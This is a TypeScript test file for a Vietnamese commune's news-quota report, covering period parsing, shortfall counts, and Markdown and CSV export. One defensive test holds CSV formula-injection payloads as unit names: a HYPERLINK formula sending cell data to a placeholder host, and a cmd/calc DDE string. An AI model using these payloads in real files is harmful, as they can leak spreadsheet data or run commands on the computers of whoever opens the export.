/**
 * The quota report with fixed dates: counts per unit per month, who is short in ended months
 * and quarters, what is still due in the current one, and the Markdown / CSV the unit files.
 */
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, reportCsv, reportMarkdown } from '../../src/report/format.ts';
import { buildQuotaReport, parsePeriod, type ReportNews } from '../../src/report/quota.ts';

const units = [
  { id: 'van-phong', name: 'Văn phòng HĐND và UBND xã', shortName: 'Văn phòng' },
  { id: 'cong-an-xa', name: 'Công an xã' },
  { id: 'doan-thanh-nien', name: 'Đoàn Thanh niên xã' },
];
const targets = [
  { unit: 'van-phong', perMonth: 1 },
  { unit: 'cong-an-xa', perQuarter: 2 },
];
let n = 0;
const item = (unit: string, date: string, extra: Partial<ReportNews> = {}): ReportNews => ({
  id: `tin-${(n += 1)}`,
  title: `Tin số ${n}`,
  unit,
  date,
  draft: false,
  ...extra,
});
const news = [
  item('van-phong', '2026-01-06'),
  item('van-phong', '2026-03-12'),
  item('van-phong', '2026-03-31', { draft: true }), // a draft never counts
  item('cong-an-xa', '2026-03-04'),
  item('doan-thanh-nien', '2026-02-10'),
  item('van-phong', '2025-12-31'), // outside the quarter
  item('van-phong', '2026-04-03'),
  item('cong-an-xa', '2026-04-20'),
];
const q1 = parsePeriod('quy', '2026-Q1')!;

describe('quota report', () => {
  it('reads the three period options, and refuses nonsense', () => {
    expect(q1).toMatchObject({ kind: 'quarter', year: 2026, months: [1, 2, 3], name: 'quý I năm 2026' });
    expect(parsePeriod('quy', 'Q4-2026')?.months).toEqual([10, 11, 12]);
    expect(parsePeriod('thang', '2026-03')).toMatchObject({ months: [3], key: '2026-03', name: 'tháng 3 năm 2026' });
    expect(parsePeriod('thang', '03/2026')?.key).toBe('2026-03');
    expect(parsePeriod('nam', '2026')?.months).toHaveLength(12);
    expect(parsePeriod('quy', '2026-Q5')).toBeUndefined();
    expect(parsePeriod('thang', '2026-13')).toBeUndefined();
  });

  it('counts published news per unit per month and names who is short after the quarter ended', () => {
    const report = buildQuotaReport({ period: q1, asOf: '2026-04-10', news, units, targets });
    const [office, police, youth] = report.rows;
    expect(office).toMatchObject({ perMonth: [1, 0, 1], published: 2, target: 3, missing: 1, status: 'short' });
    expect(police).toMatchObject({ perMonth: [0, 0, 1], published: 1, target: 2, missing: 1, status: 'short' });
    expect(youth).toMatchObject({ perMonth: [0, 1, 0], published: 1, target: undefined, status: 'noTarget' });
    expect(report.totals).toMatchObject({ perMonth: [1, 1, 2], published: 4, target: 5, missing: 2 });
  });

  it('does not call a unit short before its month or quarter is over', () => {
    const q2 = parsePeriod('quy', '2026-Q2')!;
    const report = buildQuotaReport({ period: q2, asOf: '2026-04-25', news, units, targets });
    const [office, police] = report.rows;
    // April met; May and June not begun.
    expect(office).toMatchObject({ missing: 0, status: 'inProgress' });
    expect(police).toMatchObject({ missing: 0, pending: 1, status: 'inProgress' });
    // News dated after the report day are not published yet.
    const early = buildQuotaReport({ period: q2, asOf: '2026-04-02', news, units, targets });
    expect(early.rows[0]?.published).toBe(0);
  });

  it('a month report judges monthly quotas only', () => {
    const report = buildQuotaReport({ period: parsePeriod('thang', '2026-02')!, asOf: '2026-04-10', news, units, targets });
    expect(report.rows[0]).toMatchObject({ target: 1, missing: 1, status: 'short' });
    expect(report.rows[1]).toMatchObject({ target: undefined, status: 'noTarget' });
  });

  it('writes a Markdown table with the shortfalls and the list of articles', () => {
    const report = buildQuotaReport({ period: q1, asOf: '2026-04-10', news, units, targets });
    const md = reportMarkdown(report, 'Ủy ban nhân dân xã Hòa An');
    expect(md).toContain('# Báo cáo kết quả đăng tin, bài cải cách hành chính quý I năm 2026');
    expect(md).toContain('Số liệu tính đến ngày 10/04/2026.');
    expect(md).toContain('| Văn phòng | 3 (1 tin/tháng) | 1 | 0 | 1 | 2 | 1 | Chưa đạt |');
    expect(md).toContain('| Đoàn Thanh niên xã | không giao | 0 | 1 | 0 | 1 | 0 | Không giao chỉ tiêu |');
    expect(md).toContain('- Văn phòng: còn thiếu 1 tin (tháng 2/2026: 0/1)');
    expect(md).toContain('- Công an xã: còn thiếu 1 tin (quý I năm 2026: 1/2)');
    expect(md).toContain('- 12/03/2026 — Tin số 2');
    expect(md).not.toContain('Tin số 3');
  });

  it('writes a CSV that Excel opens with its Vietnamese intact (BOM, CRLF, quoted commas)', () => {
    const report = buildQuotaReport({ period: q1, asOf: '2026-04-10', news, units, targets });
    const csv = reportCsv(report);
    expect(csv.startsWith('\uFEFFĐơn vị,Mã đơn vị,Chỉ tiêu,T1,T2,T3,Đã đăng,Còn thiếu,Đánh giá\r\n')).toBe(true);
    expect(csv).toContain('\r\nVăn phòng,van-phong,3 (1 tin/tháng),1,0,1,2,1,Chưa đạt\r\n');
    expect(csv.trimEnd().split('\r\n')).toHaveLength(5);
  });

  it('neutralises CSV cells a spreadsheet would run as a formula, and keeps numbers numeric', () => {
    const hostile = [
      { id: 'a', name: '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")' },
      { id: 'b', name: '+cmd|\' /C calc\'!A0' },
      { id: 'c', name: '-2+3' },
      { id: 'd', name: '@SUM(A1:A9)' },
      { id: 'e', name: '\t=1+1' },
      { id: 'f', name: '\r=1+1' },
    ];
    const report = buildQuotaReport({ period: q1, asOf: '2026-04-10', news: [], units: hostile, targets: [] });
    const lines = reportCsv(report).replace(/^\uFEFF/, '').split('\r\n');
    const firstCells = hostile.map((unit) => lines.find((line) => line.includes(`,${unit.id},`))?.split(`,${unit.id},`)[0]);
    expect(firstCells).toEqual([
      `"'=HYPERLINK(""http://x.invalid/?""&A1,""Bấm"")"`,
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      `"'\r=1+1"`,
    ]);
    // No cell of the file starts a formula; counts (also a negative one) stay plain numbers.
    expect(neutraliseFormula('-3')).toBe('-3');
    expect(neutraliseFormula('12')).toBe('12');
    expect(neutraliseFormula('-3 tin')).toBe("'-3 tin");
    expect(neutraliseFormula('Văn phòng')).toBe('Văn phòng');
  });
});
